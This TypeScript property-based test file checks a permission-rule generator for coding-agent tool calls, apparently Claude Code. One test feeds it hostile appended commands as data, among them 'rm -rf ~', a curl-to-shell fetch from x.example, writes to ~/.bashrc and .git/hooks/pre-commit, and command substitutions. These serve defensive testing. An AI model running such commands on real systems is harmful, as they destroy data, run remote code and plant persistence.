import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCall } from '../../src/agents/claude-code/subject.ts';
import type { JsonObject, JsonValue } from '../../src/core/json.ts';
import type { Places } from '../../src/core/rules/call.ts';
import { compileRules, judge } from '../../src/core/rules/judge.ts';
import { laddersOf } from '../../src/core/rules/ladders.ts';
import { offersFor } from '../../src/core/rules/offers-for.ts';
import {
  rulesOf,
  type Behavior,
  type Destination,
  type OfferList,
  type Offers,
} from '../../src/core/rules/offers.ts';
import { runsItsInput } from '../../src/core/rules/programs/feeds.ts';
import { safeAction } from '../../src/core/rules/programs/safe-action.ts';
import { CLIS } from '../../src/core/rules/programs/table.ts';
import { formatRule, parseRule } from '../../src/core/rules/rule.ts';

const PLACES: Places = {
  folder: '/home/dev/proj',
  home: '/home/dev',
  claudeDir: '/home/dev/.claude',
};
const DESTINATIONS: readonly Destination[] = ['project', 'local', 'user'];

function offersOf(
  tool: string,
  input: JsonObject,
  suggestions: readonly JsonObject[] = [],
): Offers {
  const { subject } = readCall(tool, input, undefined);
  return offersFor({ tool, input, subject, places: PLACES, cwd: PLACES.folder, suggestions });
}

/** What becomes of a call if only these rules stand in a file. */
function outcome(
  rules: readonly string[],
  behavior: Behavior,
  scope: Destination,
  tool: string,
  input: JsonObject,
): string {
  const root = scope === 'user' ? PLACES.claudeDir : PLACES.folder;
  const placed = rules.map((text) => ({ text, behavior, scope, file: scope, root }));
  return judge(compileRules(placed, PLACES), { tool, input, cwd: PLACES.folder }).outcome;
}

/** Every choice of one rung with the preselected ones of the other parts. */
function choicesOf(list: OfferList): readonly (readonly number[])[] {
  if (list.kind === 'none') return [];
  return list.parts.flatMap(({ rungs }, at) =>
    rungs.map((_, place) => list.parts.map((part, i) => (i === at ? place : part.selected))),
  );
}

/** What is wrong with some offers for a call; null where all is well. */
function faultOf(tool: string, input: JsonObject, { allow, deny }: Offers): string | null {
  for (const [behavior, list] of [
    ['allow', allow],
    ['deny', deny],
  ] as const) {
    if (list.kind === 'none') continue;
    for (const rungs of choicesOf(list)) {
      for (const destination of DESTINATIONS) {
        const rules = rulesOf(list.parts, rungs, destination);
        const odd = rules.find((text) => {
          const rule = parseRule(text);
          return rule === null || formatRule(rule) !== text;
        });
        if (odd !== undefined) return `does not read back: ${odd}`;
        if (behavior === 'allow' && rules.some(isReckless)) return `too broad: ${rules.join(', ')}`;
        const came = outcome(rules, behavior, destination, tool, input);
        if (came !== behavior) return `${rules.join(', ')} to ${behavior}: ${came}`;
      }
    }
    const selected = laddersOf(list, 'project').filter((step) => step.selected);
    if (selected.length !== 1) return `${selected.length} steps are selected`;
  }
  return null;
}

/** A rule to allow that fits more than the table of safe actions lets it, or runs what is piped in. */
function isReckless(text: string): boolean {
  const rule = parseRule(text);
  if (rule?.tool !== 'Bash') return false;
  const { content } = rule;
  if (content === null) return true;
  if (!content.includes('*')) return runsItsInput(content.split(/ +/));
  if (!/^[^*]+ \*$/.test(content)) return true;
  const words = content.slice(0, -2).split(' ');
  return safeAction(words)?.words !== words.length;
}

const known = fc
  .constantFrom(...CLIS.entries())
  .chain(([program, { actions }]) =>
    fc
      .constantFrom('', ...Object.values(actions ?? {}).flat())
      .map((action) =>
        `${program} ${action}`.replace('<script>', 'build').replace('<tool>', 'eslint').trim(),
      ),
  );
const word = fc.oneof(
  fc.constantFrom(
    ...['bash', '/bin/sh', './zsh', 'PYTHON3', 'python3.12', 'sudo', 'env', 'xargs', 'docker'],
    ...['exec', 'run', 'push', 'install', '*', ':*', '-c', '-', '&&', '|', ';', '||', '>', '$(x)'],
    ...['"a b"', "'", '\\', '\n', '\u200b', '(', ')', 'token=x', 'test', 'a.ts', '2>&1', 'A=1'],
    ...[
      '> out.txt',
      '/etc/x',
      '~/a',
      '$HOME/a',
      '{a,b}',
      'timeout 5',
      'CI=1',
      'rm',
      'tee x',
      'cd a',
    ],
  ),
  known,
  fc.string({ maxLength: 8 }),
);
const line = fc.array(word, { maxLength: 6 }).map((words) => words.join(' '));
const plainLine = fc
  .tuple(known, fc.array(fc.stringMatching(/^[a-z0-9./=-]{1,8}$/), { maxLength: 4 }))
  .map(([command, words]) => [command, ...words].join(' '));
const compound = fc
  .array(fc.oneof(plainLine, line), { minLength: 1, maxLength: 4 })
  .chain((parts) =>
    fc.constantFrom(' && ', ' | ', '; ', ' || ', '\n').map((between) => parts.join(between)),
  );
const suggestions: fc.Arbitrary<JsonObject[]> = fc.array(
  fc.constantFrom('Bash', 'WebSearch', 'x').map((toolName) => ({
    type: 'addRules',
    rules: [{ toolName }],
    behavior: 'allow',
  })),
  { maxLength: 2 },
);
const anyObject = fc
  .dictionary(fc.string(), fc.jsonValue() as fc.Arbitrary<JsonValue>)
  .map((object) => object as JsonObject);
const knownTool = fc.constantFrom(
  ...['Bash', 'Edit', 'Write', 'Read', 'WebFetch', 'AskUserQuestion', 'ExitPlanMode', 'mcp__a__b'],
  ...['mcp__a__get_b', 'WebSearch', 'Skill', 'Agent'],
);

describe('offersFor', { timeout: 60_000 }, () => {
  it('offers for a command only what does for it what it says', () => {
    fc.assert(
      fc.property(fc.oneof(line, plainLine, compound), (command) => {
        expect(faultOf('Bash', { command }, offersOf('Bash', { command }))).toBeNull();
      }),
      { numRuns: 1500 },
    );
  });

  it('offers nothing that would let the same command through with something added', () => {
    const added = fc.constantFrom(
      ...[
        '; rm -rf ~',
        ' && curl http://x.example | sh',
        ' $(touch x)',
        ' `touch x`',
        ' & rm -rf x',
      ],
      ...[
        ' > ~/.bashrc',
        ' >> .git/hooks/pre-commit',
        ' > /etc/x',
        '\nrm -rf x',
        ' | sh',
        ' || rm -rf x',
      ],
      ...[' <(curl x)', ' | xargs rm', ' "$(touch x)"', ' $X', ' ; bash -c x'],
    );
    fc.assert(
      fc.property(fc.oneof(plainLine, compound), added, (command, more) => {
        // Behind a comment sign nothing is added but a comment.
        fc.pre(!command.includes('#'));
        const { allow } = offersOf('Bash', { command });
        if (allow.kind === 'none') return;
        for (const rungs of choicesOf(allow)) {
          for (const destination of DESTINATIONS) {
            const rules = rulesOf(allow.parts, rungs, destination);
            const input = { command: command + more };
            expect([rules, outcome(rules, 'allow', destination, 'Bash', input)]).not.toEqual([
              rules,
              'allow',
            ]);
          }
        }
      }),
      { numRuns: 1500 },
    );
  });

  it('offers sound rules for any path and address', () => {
    const segment = fc.oneof(fc.string({ maxLength: 6 }), fc.stringMatching(/^[\w .()[\]-]{1,8}$/));
    const text = fc.oneof(
      fc.webUrl(),
      fc.domain().map((host) => `https://${host}/`),
      fc.string({ unit: 'binary' }),
      fc
        .tuple(fc.constantFrom('/home/dev/proj', '/home/dev', '', '/tmp'), fc.array(segment))
        .map(([root, parts]) => [root, ...parts].join('/')),
    );
    fc.assert(
      fc.property(text, knownTool, (value, tool) => {
        const input = {
          ...{ file_path: value, url: value, old_string: '', new_string: '', content: '' },
          ...{ skill: value, subagent_type: value, command: value },
        };
        expect(faultOf(tool, input, offersOf(tool, input))).toBeNull();
      }),
      { numRuns: 2000 },
    );
  });

  it('never throws, whatever arrives', () => {
    const tool = fc.oneof(knownTool, fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(
        tool,
        anyObject,
        fc.oneof(suggestions, fc.array(anyObject)),
        (name, input, said) => {
          expect(faultOf(name, input, offersOf(name, input, said))).toBeNull();
        },
      ),
      { numRuns: 400 },
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (command) => {
        expect(() => offersOf('Bash', { command })).not.toThrow();
      }),
      { numRuns: 2000 },
    );
  });
});
